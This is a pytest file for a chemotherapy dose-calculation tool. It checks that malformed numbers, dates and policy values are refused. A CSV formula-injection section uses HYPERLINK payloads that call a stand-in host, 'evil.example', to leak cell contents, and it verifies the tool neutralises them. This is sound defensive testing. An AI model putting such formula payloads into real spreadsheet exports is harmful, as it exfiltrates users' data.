"""Every path by which a wrong number got in (issue 15, the input part), re-run through the
installed console script: each ends in exit 2 with one clear sentence, or in the right number.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from pathlib import Path

import pytest

from tests.conftest import DIA, write

PATIENT = ["--height", "175cm", "--weight", "70kg"]
START = ["--start", "2026-12-01"]


def refused(p, *needles: str) -> str:
    """Exit 2, nothing on stdout, one ``Error:`` on stderr holding every needle."""
    assert p.returncode == 2, (p.returncode, p.stdout[:300], p.stderr)
    assert p.stdout == "" and p.stderr.startswith("Error:"), p.stderr
    assert "Traceback" not in p.stderr and "internal error" not in p.stderr
    for needle in needles:
        assert needle in p.stderr, (needle, p.stderr)
    return p.stderr


# ---------------------------------------------------------------- YAML 1.1 number forms

COURSE = """course: c
patient:
  height: {height}
  weight: {weight}
phases:
  - regimen: dia
    cycles: 1
    start: 2026-01-05
"""


def test_a_course_patient_block_with_leading_zeros_is_refused(run, tmp_path: Path) -> None:
    path = write(tmp_path, "c.yaml", COURSE.format(height="0175", weight="070"))
    err = refused(run("plan", str(path)), "2 problems")
    assert "c.yaml:3: patient.height: '0175' has a leading zero" in err
    assert "(YAML 1.1 reads it as 125, YAML 1.2 as 175)" in err
    assert "c.yaml:4: patient.weight: '070' has a leading zero" in err
    assert "write 70 without it" in err


def test_the_same_course_written_plainly_plans_175_cm_and_70_kg(run, tmp_path: Path) -> None:
    path = write(tmp_path, "c.yaml", COURSE.format(height="175", weight="70"))
    p = run("plan", str(path), "--format", "json")
    assert p.returncode in (0, 1), p.stderr
    patient = json.loads(p.stdout)["patient"]
    assert (patient["height_cm"], patient["weight_kg"]) == (175.0, 70.0)


def test_a_regimen_with_yaml_1_1_numbers_is_refused_naming_each(run, tmp_path: Path) -> None:
    text = (
        "id: r\nname: r\ncycle_length_days: 021\ncycles: 2\nsources: [x]\n"
        "drugs:\n  - drug: cisplatin\n    dose: 1:30\n    days: 010\n"
    )
    path = write(tmp_path, "r.yaml", text)
    err = refused(run("regimens", "validate", str(path)))
    assert "r.yaml:3: cycle_length_days: '021' has a leading zero" in err
    assert "(YAML 1.1 reads it as 17, YAML 1.2 as 21)" in err
    assert "r.yaml:9: drugs[0].days: '010' has a leading zero" in err
    refused(run("plan", str(path), "--bsa", "1.8"), "cycle_length_days")
    # 1:30 is text to YAML 1.2 (90 to YAML 1.1): the dose reads it and refuses it
    path.write_text(text.replace("021", "21").replace("010", "1"), encoding="utf-8")
    refused(
        run("regimens", "validate", str(path)),
        "r.yaml:8: drugs[0].dose: '1:30' is a base-60 (hours:minutes) form",
    )
    path.write_text(text.replace("021", "2_1").replace("010", "1"), encoding="utf-8")
    refused(run("regimens", "validate", str(path)), "r.yaml:3: cycle_length_days: '2_1' has an")


@pytest.mark.parametrize(
    ("field", "value", "needle"),
    [
        ("dose", "070", "'070' has a leading zero"),
        ("dose", "1_0", "'1_0' has an underscore"),
        ("dose", "1:30", "base-60"),
        ("dose", "1" * 5000, "(5,000 characters) is longer than any number"),
        ("cycle", "010", "'010' has a leading zero"),
        ("day", "99999999999999999999", "is too large a number"),
    ],
)
def test_a_yaml_history_with_such_numbers_is_refused(
    run, tmp_path: Path, field: str, value: str, needle: str
) -> None:
    row = {"date": "2020-01-06", "drug": "epirubicin", "dose": "40", "unit": "mg/m2", field: value}
    text = "- " + "\n  ".join(f"{k}: {v}" for k, v in row.items()) + "\n"
    path = write(tmp_path, "h.yaml", text)
    refused(run("check", "--history", str(path)), "h.yaml:", needle)
    db = f"sqlite:///{tmp_path / 'l.db'}"
    refused(run("ledger", "import", str(path), "--patient", "P1", "--db", db), needle)


# ---------------------------------------------------------------- underscores, Unicode digits


@pytest.mark.parametrize(
    ("column", "value", "needle"),
    [
        ("dose", "1_0", "dose '1_0' has an underscore"),
        ("dose", "١٠", "has the digit '١', which is not an ASCII digit"),
        ("dose", "０４０", "which is not an ASCII digit"),
        ("dose", "040", "'040' has a leading zero"),
        ("bsa_m2", "1_8", "has an underscore"),
        ("cycle", "1_0", "cycle '1_0' has an underscore"),
        ("cycle", "3.0", "'3.0' is not a whole number"),
        ("cycle", "99999999999999999999", "is too large a number"),
        ("day", "-99999999999999999999", "is too large a number"),
        (
            "day",
            "1000000000000000",
            "day '1000000000000000' is not a whole number from -366 to 366",
        ),
        ("cycle", "501", "cycle '501' is not a whole number from 1 to 500"),
        ("date", "0001-01-06", "date 0001-01-06 is before 1900-01-01; check the year"),
        ("date", "2020-W02-1", "date '2020-W02-1' is not a date; write it as YYYY-MM-DD"),
        ("date", "20200106", "is not a date; write it as YYYY-MM-DD"),
    ],
)
def test_csv_history_numbers_are_read_strictly(
    run, tmp_path: Path, column: str, value: str, needle: str
) -> None:
    cells = {"date": "2020-01-06", "drug": "epirubicin", "dose": "40", "unit": "mg", "bsa_m2": ""}
    cells.update({"cycle": "", "day": ""})
    cells[column] = value
    path = write(tmp_path, "h.csv", ",".join(cells) + "\n" + ",".join(cells.values()) + "\n")
    refused(run("check", "--history", str(path), "--bsa", "1.8"), "h.csv:2", needle)


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--delay", "2=1_75"], "'1_75' has an underscore"),
        (["--delay", "2=99999999999999999999999"], "is too large a number"),
        (["--delay", "١=7"], "which is not an ASCII digit"),
        (["--cycles", "1_75"], "--cycles: '1_75' has an underscore"),
        (["--cycles", "99999999999999999999"], "--cycles: '99999999999999999999' is too large"),
        (["--cycles", "２"], "--cycles: '２' has the digit '２'"),
        (["--cycles", "2.0"], "'2.0' is not a whole number"),
        (["--height", "١٧٥"], "--height: '١٧٥' has the digit '١', which is not an ASCII digit"),
        (["--height", "１７５"], "--height: '１７５' has the digit '１'"),
        (["--height", "1٧5"], "--height: '1٧5' has the digit '٧'"),
        (["--weight", "7_0"], "--weight: '7_0' has an underscore"),
        (["--weight", "070"], "--weight: '070' has a leading zero"),
        (["--bsa", "1_8"], "--bsa: '1_8' has an underscore"),
        (["--prior", "epirubicin=3_00mg/m2"], "--prior: epirubicin=3_00mg/m2: '3_00'"),
        (["--chest-rt", "0x14"], "'0x14' is a hexadecimal number"),
        (["--start", "9999-12-31"], "--start: 9999-12-31 is outside the dates dosecalc plans"),
        (["--start", "２０２６-12-01"], "--start: '２０２６-12-01' is not a date"),
        (["--reduce", "cisplatin=1.2.3%", "--reason", "x"], "--reduce: 'cisplatin=1.2.3%'"),
        (["--reduce", "cisplatin=2_5%", "--reason", "x"], "'2_5' has an underscore"),
        (["--reduce", "cisplatin=25%@1_0", "--reason", "x"], "'1_0' has an underscore"),
        (["--escalate", "all=10%@99999999999999999999", "--reason", "x"], "is too large"),
        (["--lab", "anc=1x10^400/L"], "--lab: anc: '1x10^400/L' is not a count per volume"),
        (["--lab", "anc=1_5x10^9/L"], "--lab: anc: '1_5' has an underscore"),
        (["--lab", "platelets=１５０x10^9/L"], "which is not an ASCII digit"),
    ],
)
def test_plan_options_are_read_strictly(run, args: list[str], needle: str) -> None:
    base = dict(zip(DIA[2::2], DIA[3::2], strict=True))
    base.update({k: v for k, v in zip(args[::2], args[1::2], strict=True)})
    argv = ["plan", "dia"] + [x for kv in base.items() for x in kv]
    refused(run(*argv), needle)


def test_whole_number_options_of_other_commands(run, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'l.db'}"
    record = ["ledger", "record", "--patient", "P1", "--date", "2025-01-06", "--db", db]
    record += ["--drug", "epirubicin", "--dose", "40mg/m2"]
    refused(run(*record, "--cycle", str(2**64)), "--cycle:", "is too large a number")
    refused(run(*record, "--day", "1_0"), "--day: '1_0' has an underscore")
    refused(run(*record, "--cycle", "0"), "--cycle: 0 is not a cycle number; give 1 to 500")
    assert run(*record, "--cycle", "2", "--day", "-3").returncode == 0
    void = ["ledger", "void", "--patient", "P1", "--reason", "x", "--db", db]
    refused(run(*void[:2], str(2**64), *void[2:]), "SEQ:", "is too large a number")
    refused(run(*void[:2], "1_0", *void[2:]), "SEQ: '1_0' has an underscore")
    check = ["check", "--prior", "epirubicin=300mg/m2", "--next", "ec"]
    refused(run(*check, "--cycles", "1_0"), "--cycles: '1_0' has an underscore")
    refused(run(*check, "--jobs", str(2**64)), "--jobs:", "is too large a number")


def test_verify_reads_its_numbers_strictly(run, tmp_path: Path) -> None:
    order = Path(__file__).resolve().parent.parent / "examples" / "order-ec-cycle2.yaml"
    refused(run("verify", str(order), "--cycle", "1_0"), "--cycle: '1_0' has an underscore")
    refused(run("verify", str(order), "--cycle", str(2**64)), "--cycle:", "is too large")
    refused(run("verify", str(order), "--equivalence", ""), "--equivalence: an empty value")
    text = order.read_text(encoding="utf-8")
    bad = write(tmp_path, "o.yaml", text.replace("cycle: 2", "cycle: 02"))
    refused(run("verify", str(bad)), "o.yaml:6: cycle: '02' has a leading zero")
    bad = write(tmp_path, "o.yaml", text.replace("dose: 166 mg", "dose: 1_66 mg"))
    refused(run("verify", str(bad)), "'1_66' has an underscore")


# ---------------------------------------------------------------- heights


@pytest.mark.parametrize(
    ("height", "needle"),
    [
        ("5ft-3in", "'5ft-3in' is not a height in feet and inches: '-3' is negative"),
        ("5' -9\"", "is not a height in feet and inches: '-9' is negative"),
        (
            "5ft 13in",
            "'5ft 13in' has 13 inches after the feet; inches after feet are 0 to under 12",
        ),
        ("5ft12in", "has 12 inches after the feet"),
        ("5.5ft3in", "'5.5' is not a whole number"),
        ("-5ft9in", "'-5' is negative"),
    ],
)
def test_feet_and_inches_that_do_not_add_up_are_refused(run, height: str, needle: str) -> None:
    refused(run("bsa", "--height", height, "--weight", "70kg"), "--height:", needle)


@pytest.mark.parametrize(
    ("height", "cm"),
    [
        ("5ft9in", 175.26),
        ("5'9\"", 175.26),
        ("5 ft 9 in", 175.26),
        ("5ft 11.5in", 181.61),
        ("69in", 175.26),
        ("175cm", 175.0),
        ("1.75m", 175.0),
        ("175", 175.0),
    ],
)
def test_heights_that_were_right_stay_right(run, height: str, cm: float) -> None:
    p = run("bsa", "--height", height, "--weight", "70kg", "--format", "json")
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["height_cm"] == pytest.approx(cm)


# ---------------------------------------------------------------- policy values


@pytest.mark.parametrize(
    ("setting", "needle"),
    [
        ("carboplatin.gfr_cap_ml_min=", "carboplatin.gfr_cap_ml_min: the value is empty"),
        ("carboplatin.gfr_cap_ml_min=off", "'off' is not a number"),
        ("carboplatin.gfr_cap_ml_min=1_25", "'1_25' has an underscore"),
        ("bsa.cap_m2=", "bsa.cap_m2: the value is empty; give a number from 0.5 to 4, or none"),
        ("cumulative.equivalence=", "an empty value is not an equivalence table; give one of"),
        ("cumulative.equivalence=bogus", "'bogus' is not an equivalence table"),
        ("cumulative.equivalence=true", "'true' is not an equivalence table"),
        ("carboplatin.cap_given_gfr=", "an empty value is not true or false"),
        ("rounding.method=", "an empty value is not one of none, increment"),
        ("bsa.formula=", "'' is not a BSA formula"),
    ],
)
def test_set_values_are_checked_when_loaded_even_by_policy_show(
    run, setting: str, needle: str
) -> None:
    refused(run("policy", "show", "--set", setting), "--set:", needle)
    refused(run(*DIA, "--set", setting), needle)


@pytest.mark.parametrize(
    ("toml", "needle"),
    [
        (
            '[carboplatin]\ngfr_cap_ml_min = ""\n',
            "p.toml:2: carboplatin.gfr_cap_ml_min: the value is empty",
        ),
        ('[cumulative]\nequivalence = ""\n', "p.toml:2: cumulative.equivalence: an empty value"),
        ('[cumulative]\nequivalence = "bogus"\n', "'bogus' is not an equivalence table"),
        (
            "[cumulative]\nequivalence = true\n",
            "'true' is not the name of a table; give one of esc-2022",
        ),
        ('[cumulative]\nequivalence = ["esc-2022"]\n', "['esc-2022'] is not the name of a table"),
        (
            '[cumulative.options]\nepirubicin = "bogus"\n',
            "p.toml:2: cumulative.options: epirubicin: 'bogus' is not",
        ),
        ('[cumulative.options]\npaclitaxel = "x"\n', "no lifetime ceiling for paclitaxel"),
        ("[bsa]\ncap_m2 = true\n", "p.toml:2: bsa.cap_m2: 'true' is not a number"),
        (
            "[carboplatin]\ngfr_cap_ml_min = 1_25\n",
            "p.toml:2: carboplatin.gfr_cap_ml_min: '1_25' has an underscore",
        ),
        ("[carboplatin]\ngfr_cap_ml_min = 0x7D\n", "'0x7D' is a hexadecimal number"),
        (
            "[rounding]\nincrement_mg = inf\n",
            "p.toml:2: rounding.increment_mg: 'inf' is not a finite",
        ),
        (
            "[rounding.strengths]\ncisplatin = [10, 5_0]\n",
            "p.toml:2: rounding.strengths.cisplatin: '5_0'",
        ),
        ("[bsa]\ncap_m2 = " + "1" * 5000 + "\n", "p.toml:2: bsa.cap_m2: '11111111111111111111…'"),
        (
            "[bsa]\ncap_m2 = " + "9" * 30 + "\n",
            "bsa.cap_m2: '999999999999999999999999999999' is too large",
        ),
        ("[bsa]\ncap_m2 = " + "9" * 18 + "\n", "is outside 0.5-4"),
        (
            "[cumulative]\nequivalence = 1E1000\n",
            "p.toml:2: cumulative.equivalence: '1E1000' is too large",
        ),
        ("[bsa]\ncap_m2 = 1e400\n", "p.toml:2: bsa.cap_m2: '1e400' is too large a number"),
        ("a = " + "[" * 5000 + "]" * 5000 + "\n", "not valid TOML: nested too deeply"),
    ],
)
def test_policy_files_are_checked_when_loaded(run, tmp_path: Path, toml: str, needle: str) -> None:
    path = write(tmp_path, "p.toml", toml)
    refused(run("policy", "show", "--policy", str(path)), needle)


def test_numbers_in_toml_strings_and_comments_are_not_numbers(run, tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "p.toml",
        '# 1_000 and 0x10 in a comment\n[cumulative]\nequivalence = "esc-2022" # 0x1\n'
        "[carboplatin]\ngfr_cap_ml_min = 125\n",
    )
    p = run("policy", "show", "--policy", str(path), "--format", "json")
    assert p.returncode == 0, p.stderr
    assert json.loads(p.stdout)["settings"]["carboplatin.gfr_cap_ml_min"]["value"] == 125.0


def test_no_limit_is_said_explicitly_and_shown_as_none(run, tmp_path: Path) -> None:
    carbo = ["plan", "carboplatin-paclitaxel", "--bsa", "1.8", "--gfr", "200mL/min",
             "--gfr-measured", *START]  # fmt: skip
    capped = run(*carbo, "--set", "carboplatin.cap_given_gfr=true", "--format", "json")
    uncapped = run(
        *carbo,
        "--set",
        "carboplatin.cap_given_gfr=true",
        "--set",
        "carboplatin.gfr_cap_ml_min=none",
        "--format",
        "json",
    )

    def carboplatin(p) -> float:
        assert p.returncode in (0, 1), p.stderr
        return next(
            a["dose"] for a in json.loads(p.stdout)["administrations"] if a["drug"] == "carboplatin"
        )

    assert carboplatin(uncapped) > carboplatin(capped)
    shown = run("policy", "show", "--set", "carboplatin.gfr_cap_ml_min=NONE")
    line = next(x for x in shown.stdout.splitlines() if x.startswith("carboplatin.gfr_cap_ml_min"))
    assert line.split()[1] == "none" and "--set" in line
    default = run("policy", "show").stdout
    assert "esc-2022 (the data's default)" in default


def test_an_empty_equivalence_option_is_refused(run) -> None:
    refused(run(*DIA, "--equivalence", ""), "--equivalence: an empty value is not an equivalence")
    refused(run("check", "--prior", "epirubicin=300mg/m2", "--equivalence", " "), "--equivalence")


# ---------------------------------------------------------------- radiotherapy


RT = """course: c
phases:
  - radiotherapy: IMRT
    site: chest
    dose_per_fraction: {dose}
    fractions: {fractions}
    start: 2026-01-05{cardiac}
  - regimen: abvd
    start: 2026-03-02
"""


@pytest.mark.parametrize(
    ("dose", "fractions", "cardiac", "needle"),
    [
        ("-3 Gy", "20", "", "c.yaml:5: phases[0].dose_per_fraction: '-3 Gy' is not above zero"),
        ("0 Gy", "20", "", "c.yaml:5: phases[0].dose_per_fraction: '0 Gy' is not above zero"),
        ("0.0 cGy", "20", "", "is not above zero"),
        ("-300 cGy", "20", "", "'-300 cGy' is not above zero"),
        ("3 Gy", "0", "", "phases[0].fractions"),
        ("3 Gy", "-20", "", "phases[0].fractions"),
        ("3 Gy", "20", "\n    cardiac: no", "phases[0].cardiac: 'no' is not a yes/no value here"),
        ("3 Gy", "20", "\n    cardiac: 0", "phases[0].cardiac: 0 is not a yes/no value here"),
        ("3 Gy", "20", '\n    cardiac: ""', "phases[0].cardiac"),
    ],
)
def test_a_radiotherapy_phase_cannot_switch_off_the_cardiac_modifier(
    run, tmp_path: Path, dose: str, fractions: str, cardiac: str, needle: str
) -> None:
    path = write(tmp_path, "c.yaml", RT.format(dose=dose, fractions=fractions, cardiac=cardiac))
    refused(run("plan", str(path), "--bsa", "1.8"), needle)
    refused(run("regimens", "validate", str(path)), needle)


def test_chest_radiotherapy_still_lowers_the_anthracycline_ceiling(run, tmp_path: Path) -> None:
    def doxorubicin_limit(text: str) -> float:
        p = run("plan", str(write(tmp_path, "c.yaml", text)), "--bsa", "1.8", "--format", "json")
        assert p.returncode in (0, 1), p.stderr
        [total] = [t for t in json.loads(p.stdout)["cumulative"] if t["drug"] == "doxorubicin"]
        return total["limit"]

    with_rt = doxorubicin_limit(RT.format(dose="2 Gy", fractions="15", cardiac=""))
    without = doxorubicin_limit(
        RT.format(dose="2 Gy", fractions="15", cardiac="").replace("chest", "pelvis")
    )
    assert with_rt == 400.0 and without == 550.0  # the label's 400 mg/m² after cardiac RT


# ---------------------------------------------------------------- options that change nothing


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--delay", "5=7"], "--delay: cycle 5 is delayed, but the plan has 4 cycles"),
        (["--reduce", "epirubicin=20%@6"], "--reduce: epirubicin from cycle 6, but the plan has 4"),
        (["--escalate", "all=10%@5"], "--escalate: all drugs from cycle 5, but the plan has 4"),
        (["--cycles", "2", "--delay", "3=7"], "the plan has 2 cycles"),
    ],
)
def test_a_change_of_a_cycle_the_plan_does_not_have_is_refused(
    run, args: list[str], needle: str
) -> None:
    refused(run("plan", "ec", "--bsa", "1.8", *START, "--reason", "test", *args), needle)


def test_the_longest_plan_from_the_last_start_date_is_dated(run) -> None:
    """The most cycles of EC a plan spans (87 of 21 days, 1,827 days) from the last start date
    dosecalc plans: dated past the end of the calendar's start dates, without an overflow (an
    overflow there was an internal error)."""
    p = run("plan", "ec", "--bsa", "1.8", "--start", "2199-12-31", "--cycles", "87",
            "--format", "csv")  # fmt: skip
    assert p.returncode in (0, 1), p.stderr
    last = p.stdout.strip().splitlines()[-1].split(",")
    assert last[1] == "87" and last[3] == "2204-12-11"


REGIMEN = """id: long
name: long
cycle_length_days: {length}
cycles: {cycles}
sources: [x]
drugs:
  - drug: cyclophosphamide
    dose: 600 mg/m2
    days: 1
"""


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        # 500 cycles of 366 days were planned: 500 years, dated to 2526 (past the last date
        # dosecalc plans) and, with a daily line, 200 MB of JSON
        (
            [],
            "long.yaml:4: cycles: 500 cycles of 366 days span 183,000 days, and a plan spans "
            "at most 1,830 days (5 years): give at most 5 cycles of 366 days",
        ),
        (["--cycles", "6"], "--cycles: 6 cycles of 366 days span 2,196 days"),
        (
            ["--cycles", "5", "--delay", "2=30"],
            "--delay: with --delay, the plan of long runs "
            "1,860 days, from 2026-12-01 to 2032-01-04, and a plan spans at most 1,830 days",
        ),
    ],
)
def test_a_plan_longer_than_five_years_is_refused(run, tmp_path, args, needle) -> None:
    cycles = 5 if args else 500
    write(tmp_path, "long.yaml", REGIMEN.format(length=366, cycles=cycles))
    refused(run("plan", "long.yaml", "--bsa", "1.8", *START, *args), needle)
    if not args:
        refused(run("regimens", "validate", "long.yaml"), needle)


def test_a_plan_of_five_years_is_planned(run, tmp_path) -> None:
    """Maintenance of 2-3 years (ALL) passes with room: 5 cycles of 366 days, 87 of 21."""
    write(tmp_path, "long.yaml", REGIMEN.format(length=366, cycles=5))
    assert run("plan", "long.yaml", "--bsa", "1.8", *START).returncode == 0
    p = run("plan", "ec", "--bsa", "1.8", *START, "--cycles", "88")
    refused(p, "--cycles: 88 cycles of 21 days span 1,848 days", "at most 87 cycles of 21 days")


@pytest.mark.parametrize(
    ("phases", "needle"),
    [
        (
            "  - regimen: ec\n    cycles: 100\n    start: 2018-09-19\n",
            "c.yaml:4: phases[0].cycles: phase 1 (ec): 100 cycles of 21 days span 2,100 days",
        ),
        # a phase of five years' cycles, pushed past them by a delay
        (
            "  - regimen: ec\n    cycles: 87\n    start: 2018-09-19\n",
            "phase 1 (ec) runs 1,855 days, from 2018-09-19 to",
        ),
    ],
)
def test_a_course_phase_longer_than_five_years_is_refused(run, tmp_path, phases, needle) -> None:
    write(tmp_path, "c.yaml", "course: c\nphases:\n" + phases)
    delay = ["--delay", "1.2=28"] if "1,855" in needle else []
    refused(run("plan", "c.yaml", "--bsa", "1.8", *delay), needle)


def test_a_course_of_phases_years_apart_is_planned(run, tmp_path) -> None:
    """A course may tell a patient's whole history: a relapse treated nine years after the
    first course is planned (the span of a plan bounds each phase, not the years between
    them; a bound on the whole course refused it)."""
    write(
        tmp_path,
        "c.yaml",
        "course: c\nphases:\n  - regimen: ec\n    cycles: 4\n    start: 2012-09-19\n"
        "  - regimen: ec\n    cycles: 2\n    start: 2021-09-20\n",
    )
    p = run("plan", "c.yaml", "--bsa", "1.8", "--format", "json")
    assert p.returncode in (0, 1), p.stderr
    dates = [a["date"] for a in json.loads(p.stdout)["administrations"]]
    assert (min(dates), max(dates)) == ("2012-09-19", "2021-10-11")


def test_a_change_of_a_cycle_the_plan_has_is_made(run) -> None:
    p = run(
        "plan",
        "ec",
        "--bsa",
        "1.8",
        *START,
        "--reduce",
        "epirubicin=20%@4",
        "--reason",
        "t",
        "--delay",
        "4=7",
        "--format",
        "json",
    )
    assert p.returncode in (0, 1), p.stderr
    given = json.loads(p.stdout)["administrations"]
    epi = {a["cycle"]: a for a in given if a["drug"] == "epirubicin"}
    assert epi[4]["dose"] == pytest.approx(0.8 * epi[3]["dose"])
    assert (date.fromisoformat(epi[4]["date"]) - date.fromisoformat(epi[3]["date"])).days == 21 + 7


def test_a_delay_of_a_cycle_the_history_dates_is_refused(run, tmp_path: Path) -> None:
    history = write(
        tmp_path,
        "h.csv",
        "date,drug,dose,unit,regimen,cycle,day\n2026-01-05,cisplatin,120,mg/m2,dia,1,1\n",
    )
    plan = ["plan", "dia", "--bsa", "1.8", "--history", str(history), "--actual-dates"]
    refused(run(*plan, "--delay", "1=3"), "--delay: cycle 1 is dated by the history")
    assert run(*plan, "--delay", "2=3").returncode in (0, 1)


def test_actual_dates_before_the_calendar_are_refused(run, tmp_path: Path) -> None:
    history = write(
        tmp_path,
        "h.csv",
        "date,drug,dose,unit,regimen,cycle,day\n1900-01-05,cisplatin,120,mg/m2,dia,1,300\n",
    )
    p = run("plan", "dia", "--bsa", "1.8", "--history", str(history), "--actual-dates")
    refused(p, "--actual-dates: the history's cycles of dia start on 1899-03-12, before 1900-01-01")


def test_a_delay_of_a_phase_cycle_a_course_does_not_have(run, tmp_path: Path) -> None:
    path = write(tmp_path, "c.yaml", "course: c\nphases:\n  - regimen: ec\n    start: 2026-01-05\n")
    refused(
        run("plan", str(path), "--bsa", "1.8", "--delay", "1.5=7"),
        "--delay: phase 1 (ec) has 4 cycles, not 5",
    )
    refused(run("plan", str(path), "--bsa", "1.8", "--delay", "2.1=7"), "--delay: phase 2 is not")


# ---------------------------------------------------------------- CSV formula injection


def spreadsheet_cells(text: str) -> list[list[str]]:
    """The cells as a spreadsheet sees them: a cell it would run as a formula starts with one
    of = + - @ (or a tab or carriage return); a leading ' makes it text."""
    return list(csv.reader(io.StringIO(text)))


def is_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_a_regimen_note_cannot_become_a_formula_in_plan_csv(run, tmp_path: Path) -> None:
    """A regimen's free text (its note) is shown as text; a route is one of the known routes
    (drugs.read_route), so a formula there is refused before any output."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    head = "id: r\nname: r\ncycle_length_days: 21\nsources: [x]\ndrugs:\n"
    line = "  - drug: cisplatin\n    dose: 75 mg/m2\n    days: 1\n"
    path = write(tmp_path, "r.yaml", head + line + f"    note: '{formula}'\n")
    p = run("plan", str(path), "--bsa", "1.8", *START, "--format", "csv")
    assert p.returncode in (0, 1), p.stderr
    header, *rows = spreadsheet_cells(p.stdout)
    assert rows and not any(is_formula(c) for row in rows for c in row)
    assert rows[0][header.index("note")] == "'" + formula  # shown as text, nothing lost
    path = write(tmp_path, "route.yaml", head + line + f"    route: '{formula}'\n")
    p = run("plan", str(path), "--bsa", "1.8", *START, "--format", "csv")
    assert p.returncode == 2 and "is not a route dosecalc knows" in p.stderr
    assert float(rows[0][header.index("dose")]) == pytest.approx(135.0)


def test_a_patient_id_cannot_become_a_formula_in_ledger_export(run, tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'l.db'}"
    who = '=HYPERLINK("http://evil.example","x")'
    for patient, day in ((who, "-3"), ("@P2", "1"), ("'+P3", "2")):
        p = run(
            "ledger",
            "record",
            "--patient",
            patient,
            "--date",
            "2025-01-06",
            "--drug",
            "EPI",
            "--dose",
            "40mg/m2",
            "--day",
            day,
            "--regimen",
            "-ec",
            "--db",
            db,
        )
        assert p.returncode == 0, p.stderr
    p = run("ledger", "export", "--db", db)
    assert p.returncode == 0, p.stderr
    header, *rows = spreadsheet_cells(p.stdout)
    patients = [r[header.index("patient")] for r in rows]
    assert sorted(patients) == sorted(["'" + who, "'@P2", "''+P3"])
    for r in rows:
        assert not any(is_formula(c) for i, c in enumerate(r) if header[i] != "day")
    assert sorted(r[header.index("day")] for r in rows) == ["-3", "1", "2"]  # numbers stay numbers
    # and dosecalc reads its own export back as it was recorded
    export = write(tmp_path, "export.csv", p.stdout)
    back = run("check", "--history", str(export), "--format", "json")
    assert back.returncode in (0, 1), back.stderr
    assert sorted(x["patient"] for x in json.loads(back.stdout)["patients"]) == sorted(
        [who, "@P2", "'+P3"]
    )


@pytest.mark.parametrize(
    ("name", "text"),
    [("h.csv", "date,drug,dose,unit\n"), ("h.yaml", "[]\n"),
     ("p.csv", "date,drug,dose,unit,patient\n\n")],
)  # fmt: skip
def test_a_history_of_no_administrations_is_never_read_as_no_prior_exposure(
    run, tmp_path: Path, name: str, text: str
) -> None:
    """A header-only export (a wrong filter) planned with epirubicin 'before: 0' and no word;
    check said '0 patients checked', exit 0. Both paths, the reader's and the engine's, refuse
    it the same way."""
    history = write(tmp_path, name, text)
    for args in ((*DIA, "--history", str(history)), ("check", "--history", str(history))):
        p = run(*args)
        assert p.returncode == 2 and p.stdout == "", args
        assert "holds no administrations" in p.stderr and "--prior DRUG=0mg/m2" in p.stderr


def test_a_header_of_many_unknown_columns_is_said_in_a_short_sentence(run, tmp_path: Path) -> None:
    """200,000 columns named x made a 1 MB error listing every one."""
    wide = tmp_path / "wide.csv"
    wide.write_text("date,drug,dose,unit," + ",".join(["x"] * 200_000 + [f"c{i}" for i in range(20)])
                    + "\n2026-01-01,cisplatin,50,mg/m2," + ",".join(["1"] * 200_020) + "\n")  # fmt: skip
    p = run("check", "--history", str(wide))
    assert p.returncode == 2 and len(p.stderr) < 1000, len(p.stderr)
    assert "unknown columns 'x', 'c0'" in p.stderr and "and 11 more" in p.stderr


def test_one_bsa_for_a_pharmacy_file_is_refused(run, tmp_path: Path) -> None:
    """--bsa 2.3 converted patient B's 200 mg rows at A's BSA, over B's own history BSA: B's
    threshold, reached without it, vanished ('0 over a threshold'), exit 0."""
    rows = "".join(f"B,2020-01-{d:02d},epirubicin,200,mg,{'2.0' if d == 1 else ''}\n"
                   for d in range(1, 11))  # fmt: skip
    text = "patient,date,drug,dose,unit,bsa_m2\nA,2024-01-01,epirubicin,90,mg/m2,\n" + rows
    for name in ("h.csv", "h.yaml"):
        if name == "h.yaml":
            text = "".join(
                f"- {{patient: '{p}', date: {d}, drug: {g}, dose: {n}, unit: {u}"
                + (f", bsa_m2: {b}}}\n" if b else "}\n")
                for p, d, g, n, u, b in (line.split(",") for line in text.split()[1:])
            )
        history = write(tmp_path, name, text)
        p = run("check", "--history", str(history))
        assert p.returncode == 0 and "B: threshold reached" in p.stdout, (name, p.stderr)
        for given in (("--bsa", "2.3"), ("--height", "190cm", "--weight", "100kg")):
            p = run("check", "--history", str(history), *given)
            assert p.returncode == 2 and p.stdout == "", (name, given)
            assert "is one patient's, and the history names 2 patients" in p.stderr
    p = run("check", "--all-patients", "--bsa", "1.8")
    assert p.returncode == 2 and "--all-patients audits many" in p.stderr


def test_a_yaml_patient_id_read_as_a_number_is_refused(run, tmp_path: Path) -> None:
    """101.10 and 101.1, unquoted, were one patient '101.1' with both doses summed."""
    text = ("- {patient: 101.10, date: 2020-01-01, drug: epirubicin, dose: 100, unit: mg/m2}\n"
            "- {patient: 101.1, date: 2020-02-01, drug: epirubicin, dose: 100, unit: mg/m2}\n")  # fmt: skip
    p = run("check", "--history", str(write(tmp_path, "h.yaml", text)), "--format", "csv")
    assert p.returncode == 2 and p.stdout == ""
    assert "h.yaml:1: the patient id 101.1 was read as a number" in p.stderr
    quoted = text.replace("101.10,", "'101.10',").replace("101.1,", "'101.1',")
    p = run("check", "--history", str(write(tmp_path, "q.yaml", quoted)), "--format", "csv")
    assert p.returncode == 0 and "101.10," in p.stdout and "101.1," in p.stdout, p.stderr
    whole = text.replace("101.10", "1011").replace(
        "101.1,", "1012,"
    )  # whole numbers keep their text
    assert run("check", "--history", str(write(tmp_path, "w.yaml", whole))).returncode == 0


def test_one_drug_given_twice_by_prior_is_refused(run) -> None:
    """--prior EPI=90mg/m2 --prior epirubicin=90mg/m2 was summed to 180 without a word."""
    p = run(*DIA, "--prior", "EPI=90mg/m2", "--prior", "epirubicin=90mg/m2")
    assert p.returncode == 2 and "are both epirubicin" in p.stderr and p.stdout == ""
    p = run(*DIA, "--prior", "doxorubicin=90mg/m2", "--prior", "epirubicin=90mg/m2")
    assert p.returncode in (0, 1), p.stderr  # two drugs: two amounts


def test_messages_name_what_was_given(run, tmp_path: Path) -> None:
